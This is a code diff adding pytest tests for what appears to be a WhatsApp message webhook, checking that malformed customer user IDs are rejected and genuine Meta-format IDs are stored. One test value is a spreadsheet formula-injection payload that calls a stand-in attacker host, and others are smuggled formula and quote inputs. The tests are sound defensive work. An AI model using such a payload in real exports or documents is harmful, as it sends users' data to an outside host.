@@ -228,3 +228,20 @@ def test_a_system_message_that_changes_no_identity_is_stored_and_changes_nothing
     customer = t.Customer.objects.get()
     assert (customer.phone, customer.wa_user_id) == (PHONE, BSUID)
     assert customer.messages.get(wa_type="system").message == system["body"]
+
+
+@pytest.mark.parametrize("forged", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "US. 123", "@SUM(1)", 'a"b'])
+def test_a_user_id_not_shaped_like_metas_is_not_taken_for_one(client, t, forged):
+    contacts = [{"profile": {"name": NAME}, "wa_id": "", "user_id": forged}]
+    deliver(client, text(from_="", from_user_id=forged), contacts=contacts)
+
+    assert not t.Customer.objects.exists()
+
+
+@pytest.mark.parametrize("real", ["US.13491208655302741918", "US.ENT.11815799212886844830", "BR.1502576394655843"])
+def test_user_ids_as_meta_writes_them_are_kept(client, t, real):
+    deliver(
+        client, text(from_="", from_user_id=real), contacts=[{"profile": {"name": NAME}, "wa_id": "", "user_id": real}]
+    )
+
+    assert t.Customer.objects.get().wa_user_id == real
